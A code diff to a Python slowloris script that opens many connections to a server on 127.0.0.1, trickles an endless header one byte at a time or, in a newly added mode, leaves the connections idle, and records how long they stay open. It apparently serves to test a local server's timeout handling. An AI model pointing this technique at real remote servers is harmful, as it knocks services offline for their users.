@@ -1,10 +1,11 @@
 #!/usr/bin/env python3
-"""slowloris.py PORT N SECONDS OUT - the slowloris attack, from 127.0.0.1.
+"""slowloris.py PORT N SECONDS OUT [idle] - the slowloris attack, from 127.0.0.1.
 
 Keeps N connections to 127.0.0.1:PORT (every 2 s it re-opens those the
 server closed, so the attack holds every slot it can get) and sends each
 one byte of a request header that never ends every 2 s, for SECONDS.
-Writes to OUT, once done:
+With "idle" the connections send nothing at all (idle connections crowding
+the slots).  Writes to OUT, once done:
 
   longest S       the longest any connection stayed open, in seconds (measured to 0.5 s)
 """
@@ -13,6 +14,7 @@ import sys
 import time
 
 port, n, secs, out = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
+idle = sys.argv[5:] == ["idle"]
 HEADER = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
 
 conns = {}  # socket -> [opened_at, bytes_sent, next_send]
@@ -40,7 +42,7 @@ while True:
             longest = max(longest, now - st[0])
             s.close()
             del conns[s]
-        elif now >= st[2]:
+        elif now >= st[2] and not idle:
             try:
                 s.send(HEADER[st[1]:st[1] + 1])
                 st[1] += 1
